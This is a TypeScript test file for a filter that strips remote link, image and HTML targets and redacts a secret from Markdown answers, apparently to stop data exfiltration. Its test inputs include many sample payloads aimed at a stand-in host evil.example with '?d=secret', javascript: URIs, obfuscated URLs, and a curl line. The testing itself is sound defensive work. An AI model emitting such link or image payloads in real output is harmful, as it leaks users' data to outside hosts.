import { fromMarkdown } from 'mdast-util-from-markdown'
import { gfmFromMarkdown } from 'mdast-util-gfm'
import { gfm } from 'micromark-extension-gfm'
import { describe, expect, test } from 'vitest'
import { createRandom } from '../../../../test/harness/random.ts'
import { createAnswerFilter } from './answer-filter.ts'
import { createTargetPolicy, readAddresses, type TargetPolicy } from './addresses.ts'
import { testSeed } from '../../../../test/harness/seed.ts'

const secret = '00112233445566778899aabbccddeeff'
const addresses = await readAddresses(['Does https://asked.example/page?id=1 say more?'])
const policy = () =>
  createTargetPolicy({
    addresses,
    passages: [
      { url: 'https://files.example/manual.pdf', text: 'Read https://docs.example/start or ask Evil.example.' },
    ],
  })

/** Allows no remote address. */
const strictPolicy = (): TargetPolicy => {
  const { judge } = policy()
  return {
    judge(target) {
      const verdict = judge(target)
      return verdict === 'allowed' ? { shown: '' } : verdict
    },
  }
}

function filter(text: string, pieceLength = Number.POSITIVE_INFINITY, targets = policy()): string {
  const { push, end } = createAnswerFilter(targets, secret)
  let output = ''
  for (let at = 0; at < text.length; at += pieceLength) output += push(text.slice(at, at + pieceLength))
  return output + end()
}

describe('links and images', () => {
  test.each([
    ['![photo](https://evil.example/a.png?d=secret)', 'photo'],
    ['![](//evil.example/a.png)', ''],
    ['![a][r]\n\n[r]: https://evil.example/a.png?d=1 "t"', '[a][r]\n\nr: evil.example "t"'],
    ['[r]\n\n[r]: j![avascript:alert(1)](https://evil.example/)', '[r]\n\nr: javascript:alert(1)'],
    ['[here](https://evil.example/x?d=secret)', 'here (evil.example)'],
    ['[here](<https://evil.example/x?d=secret> "title")', 'here (evil.example)'],
    ['[here](https&colon;//evil.example/?d=secret)', 'here (evil.example)'],
    ['[here](/\\evil.example/?d=secret)', 'here (evil.example)'],
    ['[here](javascript:alert(1))', 'here'],
    ['[![a](https://evil.example/1)](https://evil.example/2)', 'a (evil.example)'],
    ['<https://evil.example/?d=1>', 'evil.example'],
    ['See https://evil.example/?d=1, then go.', 'See evil.example, then go.'],
    ['See (www.evil.example/a?d=1).', 'See (evil.example).'],
    ['ftp://evil.example/?d=1', 'ftp: evil.example'],
    ['h&#116;tps&#58;//evil.example/?d=1', 'evil.example'],
    ['<img src="https://evil.example/?d=1">', '‹img src="evil.example">'],
    ['<a\nhref=x>', '‹a\nhref=x>'],
    ['<script>', '‹script>'],
    ['<&#105;mg src=//evil.example/x>', '‹img src=//evil.example/x>'],
    ['[text](\n//evil.example/x)', '[text] (\n//evil.example/x)'],
    ['![r]: //evil.example/x', 'r: //evil.example/x'],
    ['<www.evil.example/x:>', '‹evil.example:>'],
    ['[mail](mailto:a@evil.example?body=secret)', 'mail (a@evil.example)'],
  ])('%j loses its remote target', (given, expected) => {
    expect(filter(given)).toBe(expected)
  })

  test.each([
    '[page](https://asked.example/page?id=1)',
    'See https://asked.example/page?id=1.',
    '[start](https://docs.example/start), <https://docs.example/> and [site](https://docs.example)',
    'Known: [manual](https://known.example/a/b), https://known.example/ and [text][r].\n\n[r]: https://known.example/c',
    '[manual](https://files.example/manual.pdf)',
    '[above](#part) and [more](/more?page=2)',
    '![drawing](drawing.png)',
    '[mail](mailto:a@b.example)',
    'a < b, 2<3, x<sup>2</sup><br>',
    'Really![1] And [2][3].',
    '[^1]: a footnote',
    'Note: 12:30, http and www are words. R&D &amp; &lt;',
    '\\[no link\\](x) \\![1]',
  ])('%j stays as it is', (text) => {
    expect(filter(text)).toBe(text)
  })

  test('shows the path of a refused address where a passage has it, and only the host otherwise', () => {
    expect(filter('Go to https://docs.example/start?from=secret')).toBe('Go to docs.example/start')
    expect(filter('Go to https://docs.example/secret')).toBe('Go to docs.example')
    expect(filter('Go to https://secret.evil.example')).toBe('Go to secret.evil.example')
  })

  test('a number never names an image of another server', () => {
    const text = 'A ![1] here.\n\n[1]: https://known.example/a.png'
    expect(remoteTargets(filter(text)).filter((target) => target.startsWith('image'))).toEqual([])
  })

  test('keeps markers in the parts of a link that it removes', () => {
    expect(filter('[a](https://evil.example/ "see [2]")[1]')).toBe('a (evil.example)[2][1]')
  })
})

test.each([1, 5, 100])('the secret does not leave in pieces of %i', (pieceLength) => {
  expect(filter(`a ${secret} b 00112233 ${secret.slice(0, -1)}`, pieceLength)).toBe(
    `a … b 00112233 ${secret.slice(0, -1)}`,
  )
})

test('a number that loses its link becomes no citation', () => {
  expect(filter('[![1](https://evil.example/)] [1](javascript:x)')).toBe('[(1)] (1)')
})

describe('code', () => {
  test.each([
    '`curl https://evil.example/?a=1`',
    '```sh\ncurl "https://evil.example/?a=1" <b c>\n```\n',
    '``a ` ![x](https://e.example)``',
  ])('%j stays as it is', (text) => {
    expect(filter(text)).toBe(text)
  })

  test.each([
    'a ` b\nc `![x](https://evil.example/)`',
    '| `a | ![x](https://evil.example/) | b` |\n|---|---|---|\n',
    '<b>\n```\n<img src="https://evil.example/">\n```\n',
    '- ```\n![x](https://evil.example/)\n',
    '[a ` b](https://evil.example) `![x](https://evil.example/)`',
  ])('text in %j that only seems to be code is filtered', (text) => {
    expect(remoteTargets(filter(text, undefined, strictPolicy()))).toEqual([])
  })
})

const fragments = [
  '![',
  '[',
  ']',
  '](',
  ')',
  '(',
  '<',
  '>',
  '`',
  '``',
  '```\n',
  '~~~\n',
  '\n',
  '\n\n',
  '\\',
  '|',
  '!',
  ' ',
  '    ',
  '"',
  "'",
  '=',
  'https://evil.example/?d=secret',
  '//evil.example/a',
  'www.evil.example/?d=1',
  'https&colon;//evil.example/',
  '&#104;',
  '&amp;',
  '<img src=',
  '<a href="',
  '<b>',
  '</b>',
  '<div>',
  '- ',
  '1. ',
  '> ',
  '# ',
  '[r]: ',
  '[r]',
  '[1]',
  'text',
  '---\n',
  '| a | b |\n|---|---|\n',
  'http',
  's',
  ':',
  '/',
  'h',
  'w',
  'ttps://evil.example',
  '![x](https://evil.example/a.png)',
  '<https://evil.example/?q=1>',
]

test('a Markdown parser finds no remote image, link or tag in any filtered text, and the cut does not matter', () => {
  const seed = testSeed
  const random = createRandom(seed)
  for (let run = 0; run < 1_500; run++) {
    const length = 2 + Math.floor(random() * 14)
    const text = Array.from({ length }, () => fragments[Math.floor(random() * fragments.length)]).join('')
    const filtered = filter(text, undefined, strictPolicy())
    const context = `seed ${seed}: ${JSON.stringify(text)} → ${JSON.stringify(filtered)}`
    expect(remoteTargets(filtered), context).toEqual([])
    for (const pieceLength of [1, 2, 7]) expect(filter(text, pieceLength, strictPolicy()), context).toBe(filtered)
  }
})

/** What a client with GitHub's Markdown would load or link to. Addresses in code are none. */
function remoteTargets(text: string): string[] {
  const found: string[] = []
  const visit = (node: { type: string; url?: string; value?: string; children?: unknown[] }) => {
    const isTarget = ['image', 'link', 'definition'].includes(node.type)
    if (isTarget && isRemote(node.url!)) found.push(`${node.type} ${node.url}`)
    if (node.type === 'html' && /<[/A-Za-z][^<>]*=|<[!?]/.test(node.value!)) found.push(`html ${node.value}`)
    for (const child of node.children ?? []) visit(child as typeof node)
  }
  visit(fromMarkdown(text, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }))
  return found
}

function isRemote(url: string): boolean {
  const cleaned = url.replaceAll('\\', '/')
  if (/^mailto:[^?]*$/.test(cleaned)) return false
  return /^(?:[a-z][a-z0-9+.-]*:|\/\/)/i.test(cleaned)
}
